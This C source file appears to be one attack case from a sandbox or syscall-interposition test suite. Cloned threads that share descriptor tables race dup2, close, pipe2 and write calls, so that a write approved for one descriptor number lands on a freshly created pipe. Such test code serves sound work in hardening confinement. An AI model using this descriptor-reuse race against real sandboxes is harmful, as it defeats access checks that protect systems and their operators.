/* A pipe() still in flight takes the number that another thread's native write was allowed for.
 * long
 */
#include "../attack.h"

static volatile int won;
static int null, low, number;

static void slow(void)
{
    struct sched_param zero = {0};
    sched_setscheduler(0, SCHED_IDLE, &zero);
}

static int flip(void *unused)
{
    (void)unused;
    for (;;) {
        dup2(null, number);
        close(number);
    }
    return 0;
}

static int creator(void *unused)
{
    (void)unused;
    int p[2];
    slow();
    for (;;) {
        if (pipe2(p, O_NONBLOCK) == 0)
            usleep(2000);
        close(low);
    }
    return 0;
}

static int writer(void *unused)
{
    (void)unused;
    slow();
    for (;;)
        write(number, "BC", 2);
    return 0;
}

static pid_t share(int (*work)(void *), int flags)
{
    char *stack = mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    return clone(work, stack + 65536, flags | SIGCHLD, NULL);
}

int main(void)
{
    pid_t pids[5];
    double until = now() + 6;
    null = open("/dev/full", O_WRONLY);
    low = dup(null);
    number = dup(null);
    signal(SIGPIPE, SIG_IGN);
    for (int i = 0; i < 2; i++) {
        pids[i] = fork();
        if (!pids[i]) {
            end_with_maker();
            nice(10);
            while (now() < until + 1)
                ;
            _exit(0);
        }
    }
    close(low);
    pids[2] = share(flip, CLONE_VM | CLONE_FILES);
    pids[3] = share(writer, CLONE_VM | CLONE_FILES);
    pids[4] = share(creator, CLONE_VM | CLONE_FILES);
    while (now() < until && !won) {
        won = foreign(low, 0);
        if (now() > until - 4) /* without load the timing is another one */
            for (int i = 0; i < 2; i++)
                kill(pids[i], SIGKILL);
        if (waitpid(pids[4], NULL, WNOHANG) > 0) {
            won |= foreign(low, 0);
            close(low);
            pids[4] = share(creator, CLONE_VM | CLONE_FILES);
        }
        usleep(300);
    }
    for (int i = 0; i < 5; i++)
        kill(pids[i], SIGKILL);
    end(won, "no native write met the new pipe");
}
